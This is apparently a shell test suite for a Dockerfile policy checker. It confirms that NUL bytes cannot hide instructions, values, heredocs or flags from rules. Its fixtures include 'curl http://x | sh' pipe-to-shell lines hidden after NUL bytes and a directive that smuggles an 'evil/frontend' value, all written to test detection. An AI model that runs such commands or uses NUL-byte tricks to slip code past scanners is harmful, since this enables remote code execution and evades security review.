#!/usr/bin/env bash
# test_bytes.sh — NUL bytes are ordinary bytes, as they are to BuildKit: whatever follows
# one on a line still reaches the rules, and no report carries a raw NUL.
set -euo pipefail
. "$(dirname "$0")/../cli/lib.sh"
cd "$tmp"

# One rule that reports each sentinel it can see, wherever a NUL sits before it.
mkdir -p pol
printf 'name: bytes\nversion: 1.0.0\n' >pol/bundle.yaml
cat >pol/sees.lua <<'EOF'
return {
  title = "reports the text it sees after NUL bytes", severity = "high",
  input = "dockerfile",
  check = function(df, report)
    local function seen(what, text)
      if text and text:find("SENTINEL", 1, true) then
        report { message = what .. " " .. text, at = df.instructions[1] }
      end
    end
    for _, ins in ipairs(df.instructions) do
      for _, c in ipairs(ins.commands or {}) do
        if c.name == "curl" then report { message = "command curl", at = ins } end
      end
      for _, p in ipairs(ins.pairs) do seen("value", p.value) end
      for _, h in ipairs(ins.heredocs) do seen("heredoc", h.body) end
      for _, f in ipairs(ins.flag_list) do seen("flag", f.value) end
      for _, a in ipairs(ins.args) do seen("arg", a) end
      if ins.cmd ~= "run" and ins.cmd:find("run", 1, true) then
        report { message = "unknown " .. ins.cmd, at = ins }
      end
    end
  end,
}
EOF
check() { "$PLIMSOLL" check --no-config --no-builtin --policy pol "$@"; }

# A NUL in a RUN line cut the instruction's text there: the arguments, the value and the
# shell commands after it never reached the rules, so `curl ... | sh` passed.
printf 'FROM alpine\nRUN echo hi\0; curl http://x | sh\n' >run.Dockerfile
run "a command after a NUL is seen" check run.Dockerfile
expect_status 1
has "$tmp/out" "bytes/sees command curl"

# ENV and ARG values were cut at the NUL, hiding a secret that follows it.
printf 'FROM alpine\nENV A=x\0SENTINEL\nARG B=y\0SENTINEL\n' >env.Dockerfile
run "a value after a NUL is seen" check -f json env.Dockerfile
expect_status 1
has "$tmp/out" '"message": "value x\\x00SENTINEL"'
has "$tmp/out" '"message": "value y\\x00SENTINEL"'

# Heredoc bodies were handed over as C strings: a NUL hid the rest of the body.
printf 'FROM alpine\nRUN <<EOF\nls\0\nSENTINEL\nEOF\n' >heredoc.Dockerfile
run "a heredoc body after a NUL is seen" check heredoc.Dockerfile
expect_status 1
has "$tmp/out" "bytes/sees heredoc ls\\x00\\nSENTINEL\\n"

# Flag words stopped at the NUL; a JSON argument with \u0000 lost its tail.
printf 'FROM alpine\nRUN --mount=type=bind\0SENTINEL true\nCMD ["a\\u0000SENTINEL"]\n' \
  >flags.Dockerfile
run "flag values and JSON arguments keep their tail" check flags.Dockerfile
expect_status 1
has "$tmp/out" "bytes/sees flag type=bind\\x00SENTINEL"
has "$tmp/out" "bytes/sees arg a\\x00SENTINEL"

# `RUN\0x` was taken for RUN (the keyword was compared up to the NUL); BuildKit sees an
# unknown instruction there and refuses the file, and so does the analysis: an error
# that shows the whole keyword, NUL included.
printf 'FROM alpine\nRUN\0x curl http://x | sh\n' >keyword.Dockerfile
run "a keyword with a NUL is an unknown instruction" check keyword.Dockerfile
expect_status 2
has "$tmp/out" "keyword.Dockerfile:2:1: error: unknown instruction: RUN\\x00x"
lacks "$tmp/out" "command curl"
run "whatever --fail-on says" "$PLIMSOLL" check --no-config --fail-on critical keyword.Dockerfile
expect_status 2

# A parser directive's value stopped at a NUL: `# syntax=docker/dockerfile:1\0...` looked
# like the plain frontend to a rule, while BuildKit resolves the whole value.
printf '# syntax=docker/dockerfile:1\0evil/frontend\nFROM alpine\n' >syntax.Dockerfile
run "a directive value keeps its tail" "$PLIMSOLL" inspect syntax.Dockerfile
has "$tmp/out" '"value": "docker/dockerfile:1\u0000evil/frontend"'

# No report carries a raw NUL byte, in either format; the model shows \u0000.
for f in text json; do
  run "no raw NUL in the $f report" check -f "$f" env.Dockerfile heredoc.Dockerfile
  if tr -d '\000' <"$tmp/out" | cmp -s - "$tmp/out"; then ok; else bad "raw NUL in the $f report"; fi
done
run "inspect escapes NUL in JSON" "$PLIMSOLL" inspect env.Dockerfile
expect_status 0
has "$tmp/out" '"raw_value": "x\u0000SENTINEL"'

finish
